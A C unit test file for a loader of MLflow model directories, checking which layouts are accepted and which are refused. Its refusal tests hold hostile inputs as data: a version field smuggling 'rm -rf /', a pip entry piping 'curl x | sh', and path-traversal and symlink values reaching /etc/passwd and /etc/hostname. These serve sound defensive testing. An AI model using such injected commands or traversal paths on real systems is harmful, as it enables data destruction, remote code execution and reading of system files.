/* test_model.c - model directories: every layout, which file counts, what is refused and allowed */
/* SPDX-License-Identifier: Apache-2.0 */
#include "folder.h"

#include "base/limits.h"
#include "model/model.h"

#define MAX_FILES 5

struct file {
	const char *path, *text;
};

#define FLAVOR "flavors:\n  python_function:\n    loader_module: m\n"
#define STRING FLAVOR "    env: conda.yaml\n"
#define MAP FLAVOR "    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n"
#define DATED FLAVOR "    python_version: 3.9.1\n"
#define PYTHON_ENV \
	"python: 3.11.7\nbuild_dependencies:\n- pip==23.2.1\n- wheel\ndependencies:\n- -r requirements.txt\n"
#define CONDA "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=23.2.1\n"

static void dump_list(struct pf_buf *out, const char *name, const struct pf_strs *list)
{
	for (size_t i = 0; i < list->n; i++)
		pf_buf_printf(out, "%s" PF_FMT, i ? ", " : name, PF_ARG(list->v[i]));
	pf_buf_cstr(out, list->n ? "\n" : "");
}

/* What a directory says, a line for each kind of thing that is there. */
static void dump(struct pf_buf *out, const struct pf_model *m)
{
	pf_buf_printf(out, "loader " PF_FMT "%s\n", PF_ARG(m->loader_module), m->flat ? ", flat" : "");
	if (m->data.n || m->code.n)
		pf_buf_printf(out, "data " PF_FMT ", code " PF_FMT "\n", PF_ARG(m->data), PF_ARG(m->code));
	if (m->needs.python.n)
		pf_buf_printf(out, "python " PF_FMT " of " PF_FMT "\n", PF_ARG(m->needs.python),
			      PF_ARG(m->needs.python_file));
	for (size_t i = 0; i < m->needs.pip.n; i++)
		pf_buf_printf(out, "%s" PF_FMT "%s", i ? ", " : "pip ", PF_ARG(m->needs.pip.v[i].text),
			      m->needs.pip.v[i].constraint ? " (constraint)" : "");
	pf_buf_cstr(out, m->needs.pip.n ? "\n" : "");
	dump_list(out, "conda ", &m->needs.conda);
	dump_list(out, "channels ", &m->needs.channels);
	dump_list(out, "build ", &m->needs.build);
	for (size_t i = 0; i < m->notes.n; i++)
		pf_buf_printf(out, "note: " PF_FMT "\n", PF_ARG(m->notes.v[i]));
}

static void put_files(const char *dir, const struct file *files)
{
	for (size_t i = 0; i < MAX_FILES && files[i].path; i++)
		folder_put(dir, files[i].path, pf_s(files[i].text));
}

static const struct {
	struct file files[MAX_FILES];
	const char *out;
} layouts[] = {
	{ { { "MLmodel", MAP }, { "python_env.yaml", PYTHON_ENV },
	    { "conda.yaml", CONDA "- pip:\n  - a==1\n  - b>=2\n" }, { "requirements.txt", "a==1\nb>=2" } },
	  "loader m\npython 3.11.7 of python_env.yaml\npip a==1, b>=2\nconda pip<=23.2.1\n"
	  "channels conda-forge\nbuild pip==23.2.1, wheel\n" },
	/* MLflow 1: a string, no python_env.yaml */
	{ { { "MLmodel", STRING }, { "conda.yaml", CONDA "- pip:\n  - a==1\n" } },
	  "loader m\npython 3.11.7 of conda.yaml\npip a==1\nconda pip<=23.2.1\nchannels conda-forge\n" },
	/* the first releases */
	{ { { "MLmodel", "code: code\ndata: data/model.pkl\nloader_module: m\nenv: e.yml\nmain: x\n" },
	    { "e.yml", "dependencies: [python=3.6.10, scikit-learn=0.19.1, {pip: [a]}]\n" } },
	  "loader m, flat\ndata data/model.pkl, code code\npython 3.6.10 of e.yml\npip a\n"
	  "conda scikit-learn=0.19.1\n" },
	/* nothing named: what MLflow calls the files */
	{ { { "MLmodel", DATED }, { "conda.yaml", "dependencies: [python, {pip: [a]}]\n" } },
	  "loader m\npython 3.9.1 of MLmodel\npip a\n" },
	{ { { "MLmodel", DATED }, { "requirements.txt", "a" } },
	  "loader m\npython 3.9.1 of MLmodel\npip a\n" },
	{ { { "MLmodel", FLAVOR } },
	  "loader m\nnote: no file of the model says which packages it needs\n"
	  "note: no file of the model says which Python it needs\n" },
	/* named and missing */
	{ { { "MLmodel", MAP "    python_version: 3.9.1\n" }, { "requirements.txt", "a" } },
	  "loader m\npython 3.9.1 of MLmodel\npip a\n"
	  "note: python_env.yaml, which MLmodel names, is not there\n"
	  "note: conda.yaml, which MLmodel names, is not there\n" },
	{ { { "MLmodel", MAP }, { "python_env.yaml", PYTHON_ENV }, { "conda.yaml", CONDA "- pip: [a]\n" } },
	  "loader m\npython 3.11.7 of python_env.yaml\npip a\nconda pip<=23.2.1\nchannels conda-forge\n"
	  "build pip==23.2.1, wheel\n"
	  "note: requirements.txt, which python_env.yaml names, is not there\n" },
	/* spelling */
	{ { { "MLmodel", "\xef\xbb\xbf" "flavors:\r\n  python_function:\r\n    code: null\r\n"
			 "    loader_module: m\r\n    new_key: {a: [1]}\r\nmlflow_version: 99.0" },
	    { "python_env.yaml", "python: 3.10\r\ndependencies: [a==1]" } },
	  "loader m\npython 3.10 of python_env.yaml\npip a==1\n" },
	{ { { "MLmodel", DATED "    code: code\n" }, { "code/", "" }, { "requirements.txt", "a" } },
	  "loader m\ndata , code code\npython 3.9.1 of MLmodel\npip a\n" },
	{ { { "MLmodel", DATED }, { "requirements.txt", "a\n-c constraints.txt" }, { "constraints.txt", "b<2\n" } },
	  "loader m\npython 3.9.1 of MLmodel\npip a, b<2 (constraint)\n" },
	/* python_env.yaml lists more than requirements.txt, or another file */
	{ { { "MLmodel", DATED }, { "python_env.yaml", "dependencies: [-r requirements.txt, b]\n" },
	    { "requirements.txt", "a" } },
	  "loader m\npython 3.9.1 of MLmodel\npip a, b\n" },
	{ { { "MLmodel", DATED }, { "python_env.yaml", "dependencies: [-r env/r.txt]\n" }, { "env/r.txt", "a" } },
	  "loader m\npython 3.9.1 of MLmodel\npip a\n" },
	{ { { "MLmodel", STRING }, { "conda.yaml", "dependencies: [python=3.8, a]\nvariables:\n  A: b\n" } },
	  "loader m\npython 3.8 of conda.yaml\nconda a\n"
	  "note: conda.yaml, line 2: variables are not set: the user's to give\n" },
	/* Python of conda.yaml */
	{ { { "MLmodel", STRING }, { "conda.yaml", "dependencies: [python==3.8, a]\n" } },
	  "loader m\npython 3.8 of conda.yaml\nconda a\n" },
	{ { { "MLmodel", STRING }, { "conda.yaml", "dependencies: ['python 3.8.*', a]\n" } },
	  "loader m\npython 3.8 of conda.yaml\nconda a\n" },
	{ { { "MLmodel", STRING }, { "conda.yaml", "dependencies: [c::python=3.8.2=h1_0, a]\n" } },
	  "loader m\npython 3.8.2 of conda.yaml\nconda a\n" },
	{ { { "MLmodel", DATED }, { "conda.yaml", "dependencies: ['python>=3.8', a]\n" } },
	  "loader m\npython 3.9.1 of conda.yaml\nconda a\n"
	  "note: conda.yaml, line 1 asks for python>=3.8: 3.9.1 is taken\n" },
	{ { { "MLmodel", DATED }, { "conda.yaml", "dependencies: ['python>=3.6,<3.8', a]\n" } },
	  "loader m\npython 3.6 of conda.yaml\nconda a\n"
	  "note: conda.yaml, line 1 asks for python>=3.6,<3.8: 3.6 is taken; "
	  "of conda's channels, the newest that goes with the rest\n"
	  "note: conda.yaml asks for Python 3.6, MLmodel for 3.9.1: conda.yaml counts\n" },
	{ { { "MLmodel", DATED }, { "conda.yaml", "dependencies: ['python 3.6|3.7', a]\n" } },
	  "loader m\npython 3.9.1 of MLmodel\nconda a\n"
	  "note: conda.yaml, line 1 asks for python 3.6|3.7, which names no one version\n" },
	/* files that disagree */
	{ { { "MLmodel", MAP }, { "python_env.yaml", PYTHON_ENV },
	    { "conda.yaml", "dependencies: [python=3.8, {pip: [a==2, b]}]\n" }, { "requirements.txt", "b\na == 1" } },
	  "loader m\npython 3.11.7 of python_env.yaml\npip b, a == 1\nbuild pip==23.2.1, wheel\n"
	  "note: python_env.yaml asks for Python 3.11.7, conda.yaml for 3.8: python_env.yaml counts\n"
	  "note: requirements.txt and conda.yaml disagree (a==1 is in requirements.txt alone): "
	  "requirements.txt counts\n" },
	{ { { "MLmodel", DATED }, { "conda.yaml", "dependencies: [{pip: [a == 1, b]}]\n" }, { "requirements.txt", "a==1" } },
	  "loader m\npython 3.9.1 of MLmodel\npip a==1\n"
	  "note: requirements.txt and conda.yaml disagree (b is in conda.yaml alone): "
	  "requirements.txt counts\n" },
};

static void reads_every_layout(void **state)
{
	(void)state;
	for (size_t i = 0; i < PF_COUNT(layouts); i++) {
		struct pf_buf out = PF_BUF(8192);
		struct pf_model m = { 0 };
		struct pf_err err = { 0 };
		char dir[FOLDER_SIZE];

		folder_new(dir);
		put_files(dir, layouts[i].files);
		if (pf_model_load(&m, dir, &err) < 0)
			fail_msg("row %zu: %s", i, err.msg);
		dump(&out, &m);
		assert_string_equal(out.p, layouts[i].out);
		pf_buf_free(&out);
		pf_model_free(&m);
		folder_remove(dir);
	}
}

/* The message, less the directory's own name. */
static void expect_refusal(const char *dir, int code, const char *msg)
{
	struct pf_model m = { .root = -7 };
	struct pf_err err = { 0 };
	size_t n = strlen(dir);

	assert_int_equal(pf_model_load(&m, dir, &err), -1);
	assert_string_equal(strncmp(err.msg, dir, n) == 0 ? err.msg + n : err.msg, msg);
	assert_int_equal(err.code, code);
	assert_int_equal(m.root, -7);
}

static const struct {
	struct file files[MAX_FILES];
	const char *msg;
	int code;
} refused[] = {
	{ { { "x", "" } }, ": no MLmodel file", PF_EMODEL },
	{ { { "MLmodel", "" } }, "MLmodel is empty", PF_EMODEL },
	{ { { "MLmodel", "- a\n" } }, "MLmodel is a list, where keys and values are wanted", PF_EMODEL },
	{ { { "MLmodel", "a: 1\na: 2\n" } },
	  "MLmodel: line 2, column 1: the key \"a\" is here a second time, first on line 1", PF_EMODEL },
	{ { { "MLmodel/", "" } }, "MLmodel is not a regular file", PF_EMODEL },
	{ { { "MLmodel", "a: 1\n" } }, "MLmodel: no flavors: is this a model of MLflow?", PF_EMODEL },
	{ { { "MLmodel", "flavors: [a]\n" } }, "MLmodel: line 1: flavors is a list, where a map is wanted", PF_EMODEL },
	{ { { "MLmodel", "flavors: {sklearn: {}, keras: {}}\n" } },
	  "MLmodel: no python_function flavor (its flavors: sklearn, keras)", PF_EMODEL },
	{ { { "MLmodel", "flavors:\n  python_function: {env: conda.yaml}\n" } },
	  "MLmodel: line 2: python_function has no loader_module", PF_EMODEL },
	{ { { "MLmodel", "flavors: {python_function: {loader_module: 17}}\n" } },
	  "MLmodel: line 1: loader_module is \"17\", where a module's dotted name is wanted", PF_EMODEL },
	{ { { "MLmodel", "flavors: {python_function: {loader_module: ../evil}}\n" } },
	  "MLmodel: line 1: loader_module is \"../evil\", where a module's dotted name is wanted", PF_EMODEL },
	{ { { "MLmodel", FLAVOR "    predict_fn: __init__\n" } },
	  "MLmodel: line 4: predict_fn is \"__init__\", where a method's name is wanted", PF_EMODEL },
	{ { { "MLmodel", FLAVOR "    predict_fn: predict() or exit\n" } },
	  "MLmodel: line 4: predict_fn is \"predict() or exit\", where a method's name is wanted", PF_EMODEL },
	{ { { "MLmodel", FLAVOR "    python_version: '3.11; rm -rf /'\n" } },
	  "MLmodel: line 4: python_version is \"3.11; rm -rf /\", where a version of Python is wanted", PF_EMODEL },
	{ { { "MLmodel", FLAVOR "    model_path: ../../etc/passwd\n" } },
	  "MLmodel: line 4: model_path leaves the model: ../../etc/passwd", PF_EMODEL },
	{ { { "MLmodel", FLAVOR "    code: /usr/lib/python3\n" } },
	  "MLmodel: line 4: code leaves the model: /usr/lib/python3", PF_EMODEL },
	{ { { "MLmodel", FLAVOR "    data: http://127.0.0.1/x\n" } },
	  "MLmodel: line 4: data leaves the model: http://127.0.0.1/x", PF_EMODEL },
	{ { { "MLmodel", FLAVOR "    model_path: C:\\models\\x\n" } },
	  "MLmodel: line 4: model_path leaves the model: C:\\models\\x", PF_EMODEL },
	{ { { "MLmodel", FLAVOR "    model_path: \"a\\0b\"\n" } }, "MLmodel: line 4: model_path holds a NUL byte", PF_EMODEL },
	{ { { "MLmodel", FLAVOR "    env: ''\n" } }, "MLmodel: line 4: env is no path: \"\"", PF_EMODEL },
	{ { { "MLmodel", FLAVOR "    env: {conda: {a: b}}\n" } },
	  "MLmodel: line 4: conda is a map, where a path is wanted", PF_EMODEL },
	{ { { "MLmodel", FLAVOR "    artifacts: {x: {path: ../x, uri: y}}\n" } },
	  "MLmodel: line 4: path leaves the model: ../x", PF_EMODEL },
	{ { { "MLmodel", FLAVOR "saved_input_example_info:\n  artifact_path: a/../../x\n" } },
	  "MLmodel: line 5: artifact_path leaves the model: a/../../x", PF_EMODEL },
	{ { { "MLmodel", FLAVOR "signature: {inputs: '[{\"type\": \"x\"}]'}\n" } },
	  "MLmodel: signature inputs[0]: unknown type \"x\"", PF_EMODEL },
	{ { { "MLmodel", FLAVOR }, { "python_env.yaml", "python: '>=3.8'\n" } },
	  "python_env.yaml, line 1: python is \">=3.8\", where one version is wanted", PF_EMODEL },
	{ { { "MLmodel", FLAVOR }, { "python_env.yaml", "python: [3, 11]\n" } },
	  "python_env.yaml, line 1: python is a list, where a version is wanted", PF_EMODEL },
	{ { { "MLmodel", FLAVOR }, { "python_env.yaml", "python: 3.11\ndependencies: {a: b}\n" } },
	  "python_env.yaml, line 2: dependencies is a map, where a list is wanted", PF_EMODEL },
	{ { { "MLmodel", FLAVOR }, { "python_env.yaml", "python: 3.11\nbuild_dependencies: [1]\n" } },
	  "python_env.yaml, line 2: an entry of build_dependencies is a number, where text is wanted", PF_EMODEL },
	{ { { "MLmodel", FLAVOR }, { "conda.yaml", "dependencies: python\n" } },
	  "conda.yaml, line 1: dependencies is a string, where a list is wanted", PF_EMODEL },
	{ { { "MLmodel", FLAVOR }, { "conda.yaml", "dependencies:\n- a\n- null\n" } },
	  "conda.yaml, line 3: a dependency is null", PF_EMODEL },
	{ { { "MLmodel", FLAVOR }, { "conda.yaml", "dependencies:\n- 3.11\n" } },
	  "conda.yaml, line 2: a dependency is a number", PF_EMODEL },
	{ { { "MLmodel", FLAVOR }, { "conda.yaml", "dependencies:\n- npm: [left-pad]\n" } },
	  "conda.yaml, line 2: unknown section npm, only pip is known", PF_EMODEL },
	{ { { "MLmodel", FLAVOR }, { "conda.yaml", "dependencies:\n- pip: numpy\n" } },
	  "conda.yaml, line 2: the pip section: \"numpy\"", PF_EMODEL },
	{ { { "MLmodel", FLAVOR }, { "conda.yaml", "dependencies:\n- pip: [a]\n- pip: [b]\n" } },
	  "conda.yaml, line 3: a second pip section, the first is on line 2", PF_EMODEL },
	{ { { "MLmodel", FLAVOR }, { "conda.yaml", "dependencies: ['x===']\n" } },
	  "conda.yaml, line 1: match spec 'x===', column 2: version spec '===', column 3: there is no such operator", PF_EMODEL },
	{ { { "MLmodel", FLAVOR }, { "conda.yaml", "dependencies: ['numpy=1.0=../../x']\n" } },
	  "conda.yaml, line 1: no build of conda's is in: \"numpy=1.0=../../x\"", PF_EMODEL },
	{ { { "MLmodel", FLAVOR }, { "conda.yaml", "dependencies:\n- python=3.10\n- python=3.11\n" } },
	  "conda.yaml asks for Python twice: python=3.10 on line 2, python=3.11 on line 3", PF_ESOLVE },
	{ { { "MLmodel", FLAVOR }, { "conda.yaml", "dependencies: [{pip: ['numpy; curl x | sh; #']}]\n" }, { "requirements.txt", "a" } },
	  NULL, PF_EMODEL },
};

static void refuses_in_one_line(void **state)
{
	(void)state;
	for (size_t i = 0; i < PF_COUNT(refused); i++) {
		struct pf_err err = { 0 };
		struct pf_model m = { 0 };
		char dir[FOLDER_SIZE];

		folder_new(dir);
		put_files(dir, refused[i].files);
		if (refused[i].msg)
			expect_refusal(dir, refused[i].code, refused[i].msg);
		else
			assert_int_equal(pf_model_load(&m, dir, &err), -1);
		folder_remove(dir);
	}
}

static void names_the_link_that_leads_out(void **state)
{
	static const struct {
		const char *target, *path, *msg;
	} rows[] = {
		{ "/etc", "link/passwd", "MLmodel: line 4: data leaves the model: link is a link to /etc" },
		{ "..", "link", "MLmodel: line 4: data leaves the model: link is a link to .." },
		{ "link", "link/x", "MLmodel: line 4: data leaves the model: link is a link to link" },
		{ "inside", "link/x", NULL },
		{ "nowhere", "link", NULL },
	};
	char dir[FOLDER_SIZE];

	(void)state;
	for (size_t i = 0; i < PF_COUNT(rows); i++) {
		struct pf_arena a = { 0 };
		struct pf_model m = { 0 };
		struct pf_err err = { 0 };

		folder_new(dir);
		folder_put(dir, "inside/x", PF_S("x"));
		folder_put(dir, "MLmodel", pf_format(&a, FLAVOR "    data: %s\n", rows[i].path));
		assert_int_equal(symlink(rows[i].target, pf_join(&a, dir, PF_S("link"))), 0);
		if (rows[i].msg)
			expect_refusal(dir, PF_EMODEL, rows[i].msg);
		else
			assert_int_equal(pf_model_load(&m, dir, &err), 0);
		pf_model_free(&m);
		pf_arena_free(&a);
		folder_remove(dir);
	}
}

static void includes_no_file_through_a_link_out(void **state)
{
	static const char *const names[] = { "requirements.txt", "conda.yaml", "python_env.yaml" };
	char dir[FOLDER_SIZE], msg[200];

	(void)state;
	for (size_t i = 0; i < PF_COUNT(names); i++) {
		struct pf_arena a = { 0 };

		folder_new(dir);
		folder_put(dir, "MLmodel", PF_S(FLAVOR));
		assert_int_equal(symlink("/etc/hostname", pf_join(&a, dir, pf_s(names[i]))), 0);
		snprintf(msg, sizeof(msg), "%s leaves the model: %s is a link to /etc/hostname",
			 names[i], names[i]);
		expect_refusal(dir, PF_EMODEL, msg);
		pf_arena_free(&a);
		folder_remove(dir);
	}
}

/* Neither blocks: a FIFO without a writer, a device. */
static void opens_regular_files_alone(void **state)
{
	struct pf_arena a = { 0 };
	char dir[FOLDER_SIZE];
	char *path;

	(void)state;
	folder_new(dir);
	path = pf_join(&a, dir, PF_S("MLmodel"));
	assert_int_equal(mkfifo(path, 0644), 0);
	expect_refusal(dir, PF_EMODEL, "MLmodel is not a regular file");
	assert_int_equal(unlink(path), 0);
	assert_int_equal(symlink("/dev/zero", path), 0);
	expect_refusal(dir, PF_EMODEL, "MLmodel leads out of its directory");
	assert_int_equal(unlink(path), 0);
	folder_put(dir, "MLmodel", PF_S(FLAVOR));
	assert_int_equal(chmod(path, 0), 0);
	if (geteuid() != 0)
		expect_refusal(dir, PF_EIO, "cannot open MLmodel: Permission denied");
	assert_int_equal(truncate(path, (off_t)PF_MAX_TEXT_FILE + 1), 0);
	assert_int_equal(chmod(path, 0644), 0);
	expect_refusal(dir, PF_ELIMIT, "MLmodel is larger than 8388608 bytes");
	folder_remove(dir);
	pf_arena_free(&a);
}

#define DIGEST "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

static const struct {
	const char *requirements;
	bool index, urls;
	const char *msg;
	int code;
} asked[] = {
	{ "a==1\nb>=2 ; os_name == 'nt'\n", false, false, NULL, 0 },
	{ "--index-url https://h/simple\na\n", false, false,
	  "requirements.txt, line 1: a model may not choose package indexes: --index-url https://h/simple", PF_EMODEL },
	{ "--index-url https://h/simple\na\n", true, false, NULL, 0 },
	{ "--no-binary :all:\na\n", false, true,
	  "requirements.txt, line 1: a model may not set build options: --no-binary :all:", PF_EMODEL },
	{ "--no-binary :all:\n--only-binary a\na\n", true, false, NULL, 0 },
	{ "a -C x=y\n", true, true,
	  "requirements.txt, line 1: a model may not set build options: --config-settings x=y", PF_EMODEL },
	{ "a\n-e .\n", true, true,
	  "requirements.txt, line 2: a model may not name places outside itself: .", PF_EMODEL },
	{ "-r ../x.txt\n", true, true,
	  "requirements.txt, line 1: no file beneath the model's directory: -r ../x.txt", PF_EMODEL },
	{ "a @ https://h/a-1.zip\n", false, false,
	  "requirements.txt, line 1: an address without a digest: a @ https://h/a-1.zip", PF_EMODEL },
	{ "a @ https://h/a-1.zip\n", false, true, NULL, 0 },
	{ "a @ https://h/a-1.zip#sha256=" DIGEST "\n", false, false, NULL, 0 },
	{ "a==1 --hash=sha256:" DIGEST "\n", false, false, NULL, 0 },
	{ "a==1 --hash=sha256:" DIGEST "\nb==1\n", false, false,
	  "requirements.txt, line 2: 'b==1' has no --hash, and hashes are required here", PF_EMODEL },
	{ "x==1\nY\nX==2\n", false, false,
	  "x==1 (requirements.txt, line 1) and X==2 (requirements.txt, line 3) cannot both hold", PF_ESOLVE },
	{ "x==1\nx==1.0\nx==2 ; os_name == 'nt'\n", false, false, NULL, 0 },
};

static void allows_packages_alone(void **state)
{
	(void)state;
	for (size_t i = 0; i < PF_COUNT(asked); i++) {
		struct pf_model m = { 0 };
		struct pf_err err = { 0 };
		char dir[FOLDER_SIZE];

		folder_new(dir);
		folder_put(dir, "MLmodel", PF_S(DATED));
		folder_put(dir, "requirements.txt", pf_s(asked[i].requirements));
		if (pf_model_load(&m, dir, &err) < 0)
			fail_msg("row %zu: %s", i, err.msg);
		assert_int_equal(pf_model_allow(&m, asked[i].index, asked[i].urls, &err), asked[i].msg ? -1 : 0);
		assert_string_equal(err.msg, asked[i].msg ? asked[i].msg : "");
		assert_int_equal(err.code, asked[i].code);
		pf_model_free(&m);
		folder_remove(dir);
	}
}

static void allows_known_channels_alone(void **state)
{
	struct pf_str mine[] = { PF_S("file:///mine") };
	const struct pf_strs users = { mine, 1, 1 };
	static const struct {
		const char *channel, *msg;
		bool allowed;	/* by --allow-model-index */
	} rows[] = {
		{ "conda-forge", NULL, false },
		{ "defaults", NULL, false },
		{ "pytorch/label/dev", NULL, false },
		{ "https://user:hunter2@h/c", NULL, false },
		{ "file:///etc", "conda.yaml, line 1: a model may not name places outside itself: channel file:///etc", true },
		{ "file:///c/../etc", "conda.yaml, line 1: a model may not name places outside itself: channel file:///c/../etc", false },
		{ "../../etc", "conda.yaml, line 1: a model may not name places outside itself: channel ../../etc", false },
		{ "gopher://h/", "conda.yaml, line 1: a model may not name places outside itself: channel gopher://h/", false },
	};

	(void)state;
	for (size_t i = 0; i < PF_COUNT(rows); i++) {
		struct pf_arena a = { 0 };
		struct pf_model m = { 0 };
		struct pf_err err = { 0 };
		char dir[FOLDER_SIZE];

		folder_new(dir);
		folder_put(dir, "MLmodel", PF_S(DATED));
		folder_put(dir, "conda.yaml", pf_format(&a, "channels: ['%s']\ndependencies: [python=3.11]\n",
							   rows[i].channel));
		assert_int_equal(pf_model_load(&m, dir, &err), 0);
		assert_int_equal(pf_model_allow(&m, false, true, &err), rows[i].msg ? -1 : 0);
		assert_string_equal(err.msg, rows[i].msg ? rows[i].msg : "");
		assert_int_equal(pf_model_allow(&m, true, true, &err),
				 rows[i].msg && !rows[i].allowed ? -1 : 0);
		pf_model_set_channels(&m, &users);
		assert_int_equal(pf_model_allow(&m, false, false, &err), 0);
		assert_true(m.needs.channels.n == 1 && pf_str_is(m.needs.channels.v[0], "file:///mine"));
		pf_model_free(&m);
		pf_arena_free(&a);
		folder_remove(dir);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(reads_every_layout),
		cmocka_unit_test(refuses_in_one_line),
		cmocka_unit_test(names_the_link_that_leads_out),
		cmocka_unit_test(includes_no_file_through_a_link_out),
		cmocka_unit_test(opens_regular_files_alone),
		cmocka_unit_test(allows_packages_alone),
		cmocka_unit_test(allows_known_channels_alone),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
